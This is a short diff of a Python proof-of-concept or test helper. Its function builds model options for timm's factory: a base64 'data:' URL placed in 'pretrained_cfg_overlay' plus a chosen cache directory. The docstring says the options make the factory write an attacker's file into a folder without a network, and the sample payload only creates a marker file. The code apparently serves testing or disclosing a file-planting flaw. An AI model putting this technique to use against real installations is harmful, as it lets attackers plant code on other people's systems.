@@ -26,8 +26,8 @@ PAYLOAD = "open('owned', 'w')\n"
 
 
 def planting(folder: Path) -> dict:
-    """Model options that make timm's factory write a file of the attacker into `folder`, without a network."""
-    address = "data:text/plain;base64," + base64.b64encode(PAYLOAD.encode()).decode() + "#/planted.py"
+    """Model options that make timm's factory write the attacker's file into `folder`, without a network."""
+    address = "data:text/plain;base64," + base64.b64encode(PAYLOAD.encode()).decode()
     overlay = {"url": address, "hf_hub_id": None, "file": None}
     return {"pretrained_cfg_overlay": overlay, "cache_dir": str(folder)}
 
